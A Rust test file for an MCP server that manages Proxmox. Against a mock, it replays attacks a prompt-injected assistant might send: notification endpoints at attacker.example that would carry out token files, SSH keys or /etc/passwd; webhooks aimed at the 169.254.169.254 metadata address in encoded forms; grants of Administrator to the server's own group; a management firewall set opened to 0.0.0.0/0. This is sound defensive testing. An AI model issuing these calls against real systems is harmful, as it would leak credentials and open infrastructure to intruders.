//! Attacks on the tools of the roadmap round (notifications, access, pools, HA, firewall,
//! network, provisioning, logs), as a prompt-injected assistant would send them: each sends the
//! attack against the mocked PVE and asserts the refusal the model reads and that PVE received no
//! write.

use std::path::{Path, PathBuf};

use serde_json::{json, Value};

use crate::support::{guest, session, Client, FakePve, TempDir, TOKEN};

const ENDPOINT: &str = "create_notification_endpoint";

/// A file in `dir` holding `text`, mode 600.
fn private_file(dir: &Path, name: &str, text: &str) -> PathBuf {
    use std::os::unix::fs::PermissionsExt;
    let path = dir.join(name);
    std::fs::write(&path, text).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o600)).unwrap();
    path
}

fn s(p: &Path) -> &str {
    p.to_str().unwrap()
}

/// A gotify endpoint at the attacker's server, its token from `file`.
fn gotify(file: &str) -> Value {
    json!({"type": "gotify", "name": "exfil", "server": "https://gotify.attacker.example", "secret_file": file})
}

/// Every call in `calls` (and its dry run) is refused with an error containing its text.
fn refused(c: &mut Client, calls: &[(Value, String)]) {
    for (args, expected) in calls {
        for dry_run in [false, true] {
            let mut args = args.clone();
            args["dry_run"] = json!(dry_run);
            let text = c.error(ENDPOINT, args.clone());
            assert!(
                text.contains(expected.as_str()),
                "{args}\n  got: {text}\n want: {expected}"
            );
        }
    }
}

#[test]
fn an_endpoint_cannot_send_the_servers_own_token_file_or_any_file_outside_the_secrets_dir() {
    let root = TempDir::new("roadmap-exfil");
    let secrets = root.path("secrets");
    let elsewhere = root.path("elsewhere");
    std::fs::create_dir(&secrets).unwrap();
    std::fs::create_dir(&elsewhere).unwrap();
    // The server's own token file, outside the secrets directory (the usual place).
    let own_outside = private_file(&elsewhere, "mcp.token-value", &format!("{TOKEN}\n"));
    // An SSH key, private as it should be.
    let ssh_key = private_file(&elsewhere, "id_ed25519", "Ssh-Key-Line-1\n");
    // A link in the secrets directory to that key, and `..` out of it.
    let link = secrets.join("ops.secret");
    std::os::unix::fs::symlink(&ssh_key, &link).unwrap();
    let dotdot = format!("{}/../elsewhere/id_ed25519", s(&secrets));
    let fake = FakePve::new();
    let settings = [
        ("PROXMOX_MCP_ACCESS", "full"),
        ("PROXMOX_MCP_TOOLS", "notifications"),
        ("PROXMOX_TOKEN_VALUE", ""),
        ("PROXMOX_TOKEN_VALUE_FILE", s(&own_outside)),
        ("PROXMOX_MCP_SECRETS_DIR", s(&secrets)),
    ];
    let outside = |name: &str, resolves: &Path| {
        format!(
            "POST /cluster/notifications/endpoints/gotify: refused, nothing was sent: secret_file {name} is not a file directly in PROXMOX_MCP_SECRETS_DIR={} (it resolves to {})",
            s(&secrets),
            std::fs::canonicalize(resolves).unwrap().display()
        )
    };
    session(&fake, &settings, |c| {
        refused(
            c,
            &[
                (
                    gotify(s(&own_outside)),
                    outside(s(&own_outside), &own_outside),
                ),
                (gotify(s(&ssh_key)), outside(s(&ssh_key), &ssh_key)),
                (gotify(s(&link)), outside(s(&link), &ssh_key)),
                (gotify(&dotdot), outside(&dotdot, &ssh_key)),
                (
                    gotify("/etc/passwd"),
                    outside("/etc/passwd", Path::new("/etc/passwd")),
                ),
            ],
        );
    });
    fake.assert_untouched();
}

#[test]
fn the_servers_own_files_and_new_token_secrets_are_refused_inside_the_secrets_dir_too() {
    let secrets = TempDir::new("roadmap-own");
    let own = private_file(&secrets.0, "mcp-token", &format!("{TOKEN}\n"));
    let config = private_file(&secrets.0, "mcp.env", "PROXMOX_MCP_LOG=warn\n");
    // A second name (hard link) and a link to the own token file, both in the directory.
    let alias = secrets.path("gotify.secret");
    std::fs::hard_link(&own, &alias).unwrap();
    let symlink = secrets.path("other.secret");
    std::os::unix::fs::symlink(&own, &symlink).unwrap();
    // A token secret as create_api_token writes it.
    let token = private_file(
        &secrets.0,
        "admin@pve_backup.token",
        "0b5e-new-token-secret\n",
    );
    let fake = FakePve::new();
    let settings = [
        ("PROXMOX_MCP_ACCESS", "full"),
        ("PROXMOX_MCP_TOOLS", "notifications"),
        ("PROXMOX_TOKEN_VALUE", ""),
        ("PROXMOX_TOKEN_VALUE_FILE", s(&own)),
        ("PROXMOX_CONFIG", s(&config)),
        ("PROXMOX_MCP_SECRETS_DIR", s(&secrets.0)),
    ];
    let own_file = |name: &str, is: &Path| {
        format!(
            "refused, nothing was sent: secret_file {name} is {}, a file of this server's own settings (its credentials, config or audit log), which is never sent anywhere",
            is.display()
        )
    };
    session(&fake, &settings, |c| {
        #[rustfmt::skip]
        let calls = [
            (gotify(s(&own)), own_file(s(&own), &own)),
            (gotify(s(&alias)), own_file(s(&alias), &own)),
            (gotify(s(&symlink)), own_file(s(&symlink), &own)),
            (gotify(s(&config)), own_file(s(&config), &config)),
            (gotify(s(&token)), format!("refused, nothing was sent: secret_file {} is an API token's secret (*.token, as create_api_token writes them), which is never sent to a notification endpoint", s(&token))),
            // The smtp password and webhook secrets alike.
            (json!({"type": "smtp", "name": "exfil", "server": "smtp.attacker.example", "from_address": "a@attacker.example", "mailto": ["b@attacker.example"], "username": "x", "secret_file": s(&own)}),
             own_file(s(&own), &own)),
        ];
        refused(c, &calls);
    });
    fake.assert_untouched();
}

#[test]
fn without_a_secrets_dir_no_secret_file_is_read_but_endpoints_without_one_still_work() {
    let dir = TempDir::new("roadmap-nodir");
    let file = private_file(&dir.0, "gotify.secret", "Gtk-Token-1\n");
    let mut fake = FakePve::new();
    fake.post("/cluster/notifications/endpoints/sendmail", json!(null));
    let settings = [
        ("PROXMOX_MCP_ACCESS", "full"),
        ("PROXMOX_MCP_TOOLS", "notifications"),
    ];
    session(&fake, &settings, |c| {
        refused(
            c,
            &[(
                gotify(s(&file)),
                "POST /cluster/notifications/endpoints/gotify: refused, nothing was sent: a secret_file must be a file in PROXMOX_MCP_SECRETS_DIR, a directory only its owner can write to, where the operator puts the secrets notification endpoints may send (PROXMOX_MCP_SECRETS_DIR is not set)".into(),
            )],
        );
        fake.assert_untouched();
        let mail = json!({"type": "sendmail", "name": "root-mail", "mailto": ["root@pam"]});
        assert_eq!(c.ok(ENDPOINT, mail), json!({"data": null}));
    });
    assert_eq!(
        fake.writes(),
        ["POST /cluster/notifications/endpoints/sendmail name=root-mail&mailto=root%40pam"]
    );
}

#[test]
fn secrets_go_only_over_tls_and_nothing_goes_to_link_local_or_non_http_urls() {
    let secrets = TempDir::new("roadmap-url");
    let file = private_file(&secrets.0, "gotify.secret", "Gtk-Token-2\n");
    let hook = private_file(&secrets.0, "hook.env", "key=Hook-Value-3\n");
    let pass = private_file(&secrets.0, "smtp.pass", "Smtp-Pw-4\n");
    let fake = FakePve::new();
    let settings = [
        ("PROXMOX_MCP_ACCESS", "full"),
        ("PROXMOX_MCP_TOOLS", "notifications"),
        ("PROXMOX_MCP_SECRETS_DIR", s(&secrets.0)),
    ];
    let prefix = |kind: &str| {
        format!("POST /cluster/notifications/endpoints/{kind}: refused, nothing was sent: ")
    };
    let webhook = |url: &str| json!({"type": "webhook", "name": "hook", "server": url});
    let metadata = "is a link-local address (where clouds answer metadata requests with the node's own credentials)";
    session(&fake, &settings, |c| {
        #[rustfmt::skip]
        let calls = [
            (json!({"type": "gotify", "name": "g1", "server": "http://gotify.example.org", "secret_file": s(&file)}),
             format!("{}a gotify endpoint with a secret_file sends the secret, so its URL must be https://, not 'http://gotify.example.org'", prefix("gotify"))),
            (json!({"type": "webhook", "name": "w1", "server": "HTTP://hook.example.org/{{ secrets.key }}", "secret_file": s(&hook)}),
             format!("{}a webhook endpoint with a secret_file sends the secret, so its URL must be https://", prefix("webhook"))),
            (json!({"type": "smtp", "name": "m1", "server": "mail.example.org", "from_address": "a@example.org", "mailto": ["b@example.org"], "username": "pve", "mode": "insecure", "secret_file": s(&pass)}),
             format!("{}an smtp endpoint with mode insecure would send the password from secret_file unencrypted", prefix("smtp"))),
            (webhook("file:///etc/pve/priv/authkey.key"), "invalid arguments: 'server' must be an https:// URL for a webhook endpoint, got 'file:///etc/pve/priv/authkey.key'".into()),
            (webhook("gopher://h.example.org"), "invalid arguments: 'server' must be an https:// URL".into()),
            (webhook("http://169.254.169.254/latest/meta-data/iam/"), format!("{}'http://169.254.169.254/latest/meta-data/iam/' {metadata}", prefix("webhook"))),
            (webhook("http://2852039166/latest"), metadata.into()),
            (webhook("http://x@0xa9.0xfe.0xa9.0xfe:80/"), metadata.into()),
            (webhook("http://[fe80::a9fe:a9fe]/"), metadata.into()),
            (webhook("http://[::ffff:169.254.169.254]/"), metadata.into()),
            (json!({"type": "gotify", "name": "g2", "server": "https://169.254.169.254", "secret_file": s(&file)}), metadata.into()),
        ];
        refused(c, &calls);
    });
    fake.assert_untouched();
}

/// Access admin allowed at full, every toolset loaded; the server logs in as `root@pam!mcp`.
const ADMIN: &[(&str, &str)] = &[
    ("PROXMOX_MCP_ACCESS", "full"),
    ("PROXMOX_MCP_TOOLS", "all"),
    ("PROXMOX_MCP_ALLOW_ACCESS_ADMIN", "true"),
];

fn own_user_refusal(at: &str, what: &str) -> String {
    format!("{at}: refused, nothing was sent: {what} this server's own user (PROXMOX_USER); no tool changes the account, API tokens, permissions or groups this server logs in with. Change them in PVE itself")
}

#[test]
fn a_grant_to_the_servers_own_group_is_refused_though_pve_lists_groups_only_with_full() {
    let mut fake = FakePve::new();
    // Only the full listing is answered: PVE leaves `groups` out of `/access/users` without
    // `full=1`, so a check reading the short listing would see no group and let the grant through.
    #[rustfmt::skip]
    fake.get("/access/users?full=1", json!([
        {"userid": "alice@pve", "enable": 1, "groups": "ops"},
        {"userid": "root@pam", "enable": 1, "groups": "mcp-admins,ops", "tokens": [{"tokenid": "mcp", "privsep": 0}]},
    ]));
    #[rustfmt::skip]
    fake.get("/access/groups", json!([
        {"groupid": "mcp-admins", "comment": "the server's group: members not listed to this token"},
    ]));
    session(&fake, ADMIN, |c| {
        let what = "a group named is one of the groups of";
        let grants = [
            json!({"path": "/", "roles": ["Administrator"], "groups": ["mcp-admins"]}),
            // Another spelling of the same group.
            json!({"path": "/", "roles": ["Administrator"], "groups": ["MCP-Admins"]}),
            json!({"path": "/vms", "roles": ["PVEAdmin"], "users": ["alice@pve"], "groups": ["staff", "mcp-admins"]}),
        ];
        for args in grants {
            for dry_run in [false, true] {
                let mut args = args.clone();
                args["dry_run"] = json!(dry_run);
                let e = c.error("grant_permission", args);
                assert_eq!(e, own_user_refusal("PUT /access/acl", what));
            }
        }
        // Deleting the group would take its ACL entries, though PVE did not list its members.
        let e = c.error("delete_group", json!({"groupid": "mcp-admins"}));
        assert_eq!(
            e,
            own_user_refusal("DELETE /access/groups/mcp-admins", "the group holds")
        );
        // Tokens and users in other spellings, and another token of the same user.
        for whom in [
            json!({"tokens": ["Root@PAM!mcp"]}),
            json!({"tokens": ["root@pam!other"]}),
            json!({"users": ["ROOT@pam"]}),
        ] {
            let mut args = json!({"path": "/", "roles": ["Administrator"]});
            args.as_object_mut()
                .unwrap()
                .extend(whom.as_object().unwrap().clone());
            let e = c.error("grant_permission", args);
            assert_eq!(
                e,
                own_user_refusal("PUT /access/acl", "it would change the permissions of")
            );
        }
    });
    fake.assert_no_writes();
}

#[test]
fn a_grant_to_groups_is_refused_when_pve_does_not_show_the_servers_own_user() {
    let mut fake = FakePve::new();
    // A token that may not read users sees a listing without its own user.
    fake.get(
        "/access/users",
        json!([{"userid": "alice@pve", "enable": 1}]),
    );
    session(&fake, ADMIN, |c| {
        let args = json!({"path": "/", "roles": ["Administrator"], "groups": ["mcp-admins"]});
        let e = c.error("grant_permission", args);
        assert_eq!(
            e,
            "PUT /access/acl: refused, nothing was sent: PVE does not list this server's own user (PROXMOX_USER) in /access/users, so whether a group named holds it cannot be told; name users or tokens instead, or let the credentials read the groups (Sys.Audit on /access/groups)"
        );
    });
    fake.assert_no_writes();
}

#[test]
fn the_internet_is_not_let_into_the_management_set_nor_the_local_network_alias() {
    let mut fake = FakePve::new();
    fake.get("/cluster/firewall/aliases", json!([]));
    fake.get("/cluster/firewall/ipset/management", json!([]));
    let settings = [
        ("PROXMOX_MCP_ACCESS", "full"),
        ("PROXMOX_MCP_TOOLS", "firewall"),
    ];
    let set = "POST /cluster/firewall/ipset/management: refused, nothing was sent: the cluster's management IP set decides who may reach every node's GUI, API (TCP 8006) and SSH; ";
    let alias = "POST /cluster/firewall/aliases: refused, nothing was sent: the cluster's local_network alias decides who may reach every node's GUI, API (TCP 8006) and SSH; ";
    let wide = |cidr: &str, n: u8| {
        format!("'{cidr}' is wider than /{n} and would open them to most of the internet; add narrower networks, or change this in PVE itself")
    };
    session(&fake, &settings, |c| {
        #[rustfmt::skip]
        let cases = [
            ("add_ipset_entry", json!({"name": "management", "cidr": "0.0.0.0/0"}), format!("{set}{}", wide("0.0.0.0/0", 8))),
            ("add_ipset_entry", json!({"name": "management", "cidr": "0.0.0.0/1"}), format!("{set}{}", wide("0.0.0.0/1", 8))),
            ("add_ipset_entry", json!({"name": "Management", "cidr": "::/0"}), format!("{set}{}", wide("::/0", 16)).replace("ipset/management", "ipset/Management")),
            ("add_ipset_entry", json!({"name": "management", "cidr": "anywhere"}), format!("{set}name the addresses themselves, not 'anywhere' (an alias or IP set can be changed to cover any address)")),
            ("create_firewall_alias", json!({"name": "local_network", "cidr": "0.0.0.0/0"}), format!("{alias}{}", wide("0.0.0.0/0", 8))),
            ("create_firewall_alias", json!({"name": "LOCAL_NETWORK", "cidr": "2000::/3"}), format!("{alias}{}", wide("2000::/3", 16))),
        ];
        for (tool, args, expected) in cases {
            for dry_run in [false, true] {
                let mut args = args.clone();
                args["dry_run"] = json!(dry_run);
                assert_eq!(c.error(tool, args.clone()), expected, "{tool} {args}");
            }
        }
        // An office network, a single address and a guest's own set named alike still work.
        let ok = c.ok(
            "add_ipset_entry",
            json!({"name": "management", "cidr": "192.0.2.0/24", "dry_run": true}),
        );
        assert_eq!(ok["request"]["params"], json!({"cidr": "192.0.2.0/24"}));
        let ok = c.ok(
            "create_firewall_alias",
            json!({"name": "local_network", "cidr": "10.0.0.0/8", "dry_run": true}),
        );
        assert_eq!(ok["request"]["path"], "/cluster/firewall/aliases");
    });
    fake.assert_no_writes();
}

#[test]
fn a_clone_cannot_take_a_protected_vmid() {
    let mut fake = FakePve::with_resources(json!([guest(
        "qemu/100",
        "web",
        "pve1",
        "running",
        json!({})
    )]));
    // The next free VMID falls into the protected range.
    fake.get("/cluster/nextid", json!(900));
    fake.config("pve1/qemu/100", json!({"name": "web", "cores": 2}));
    let settings = [
        ("PROXMOX_MCP_ACCESS", "operate"),
        ("PROXMOX_MCP_TOOLS", "all"),
        ("PROXMOX_MCP_PROTECTED", "900-999"),
    ];
    session(&fake, &settings, |c| {
        for args in [json!({"vmid": 100, "newid": 950}), json!({"vmid": 100})] {
            let newid = args["newid"].as_u64().unwrap_or(900);
            for dry_run in [false, true] {
                let mut args = args.clone();
                args["dry_run"] = json!(dry_run);
                let e = c.error("clone_vm", args);
                let expected = format!("clone_vm: refused, nothing was sent: the clone would be VMID {newid}, but guest {newid} is protected on this server (PROXMOX_MCP_PROTECTED names the range 900-999)");
                assert!(e.starts_with(&expected), "{e}");
            }
        }
    });
    fake.assert_no_writes();
}

#[test]
fn protected_guests_in_other_spellings_are_still_protected() {
    let mut fake = FakePve::with_resources(json!([
        guest("qemu/100", "web", "pve1", "running", json!({})),
        guest("qemu/101", "db", "pve1", "running", json!({})),
    ]));
    // A rule PVE shows with a bare VMID (PVE reads it as vm:101).
    fake.get(
        "/cluster/ha/rules/db-pin",
        json!({"rule": "db-pin", "type": "node-affinity", "resources": "100,101", "nodes": "pve1"}),
    );
    let settings = [
        ("PROXMOX_MCP_ACCESS", "full"),
        ("PROXMOX_MCP_TOOLS", "all"),
        ("PROXMOX_MCP_PROTECTED", "101"),
    ];
    session(&fake, &settings, |c| {
        let protected = "guest 101 is protected on this server";
        // A VMID as a string, repeated, among others.
        let e = c.error("bulk_shutdown_guests", json!({"vms": [100, "101", 100]}));
        assert!(
            e.contains("protected guests in vms: 101") && e.contains(protected),
            "{e}"
        );
        let e = c.error(
            "bulk_migrate_guests",
            json!({"vms": ["101"], "target": "pve2"}),
        );
        assert!(e.contains(protected), "{e}");
        // No guests at all would be PVE's "every guest".
        let e = c.error("bulk_migrate_guests", json!({"vms": [], "target": "pve2"}));
        assert!(e.contains("must hold 1 to 500 guest ids, got 0"), "{e}");
        let e = c.error("bulk_start_guests", json!({}));
        assert!(e.contains("vms"), "{e}");
        let e = c.error("update_pool", json!({"poolid": "dev", "vms": ["101"]}));
        assert!(e.contains(protected), "{e}");
        // HA: a leading zero, and a rule stored with bare VMIDs.
        let e = c.error(
            "migrate_ha_resource",
            json!({"sid": "vm:0101", "node": "pve2"}),
        );
        assert!(e.contains(protected), "{e}");
        let e = c.error("delete_ha_rule", json!({"rule": "db-pin"}));
        assert!(
            e.starts_with("deleting the rule would release guest 101, but guest 101 is protected"),
            "{e}"
        );
    });
    fake.assert_no_writes();
}

#[test]
fn the_servers_own_token_in_a_log_line_or_an_error_is_cut_out() {
    let mut fake = FakePve::new();
    let leak = format!("Mar 05 10:00:02 pve1 audit[900]: curl -H 'Authorization: PVEAPIToken=root@pam!mcp={TOKEN}' https://pve1:8006/api2/json/version");
    let lines = json!({"success": 1, "total": 2, "data": [
        {"n": 1, "t": "Mar 05 10:00:01 pve1 systemd[1]: Starting pveproxy.service"},
        {"n": 2, "t": leak},
    ]});
    fake.answer("GET", "/nodes/pve1/syslog", 200, lines, None);
    fake.answer(
        "GET",
        "/nodes/pve1/journal",
        500,
        json!({"success": 0, "message": format!("journalctl failed near '{TOKEN}'")}),
        None,
    );
    session(&fake, &[("PROXMOX_MCP_TOOLS", "health")], |c| {
        let out = c.ok("get_node_syslog", json!({"node": "pve1"}));
        let shown = out.to_string();
        assert!(!shown.contains(TOKEN), "{shown}");
        assert_eq!(
            out["data"][0]["t"],
            "Mar 05 10:00:02 pve1 audit[900]: curl -H 'Authorization: PVEAPIToken=root@pam!mcp=<redacted>' https://pve1:8006/api2/json/version"
        );
        let e = c.error("get_node_journal", json!({"node": "pve1"}));
        assert!(!e.contains(TOKEN), "{e}");
        assert!(e.contains("journalctl failed near '<redacted>'"), "{e}");
    });
    fake.assert_no_writes();
}
